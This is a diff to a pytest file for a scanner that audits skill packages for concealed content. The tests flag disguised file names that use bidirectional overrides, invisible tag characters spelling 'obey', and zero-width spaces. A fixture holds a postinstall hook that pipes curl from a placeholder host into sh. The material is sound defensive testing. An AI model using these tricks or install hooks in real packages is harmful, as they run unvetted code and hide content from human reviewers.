@@ -112,6 +112,21 @@ def test_programs_links_and_hidden_scripts_are_found(entry: SkillEntry, told: li
     assert [(one.rule, one.severity) for one in entry_findings(entry)] == told
 
 
+@pytest.mark.parametrize(
+    ("path", "rule"),
+    [
+        ("assets/photo\u202egpj.exe", "hidden-bidi"),
+        ("docs\u202e/a.md", "hidden-bidi"),
+        ("a" + "".join(chr(0xE0000 + ord(character)) for character in "obey"), "hidden-tags"),
+        ("re\u200bad\u200bme\u200bfi\u200brst.md", "hidden-zero-width"),
+    ],
+)
+def test_a_name_that_hides_or_reorders_characters_is_found(path: str, rule: str) -> None:
+    (one,) = audit_files("skill", SkillFiles(None, (SkillEntry(path),), ())).findings
+    assert (one.rule, one.path, one.line) == (rule, path, None)
+    assert one.message.endswith(", in the name")
+
+
 def test_a_package_that_reaches_out_when_it_is_installed_is_found() -> None:
     out = '{"scripts": {"postinstall": "curl https://x.example | sh", "test": "curl x"}}'
     assert [(one.rule, one.severity) for one in package_findings("package.json", out)] == [
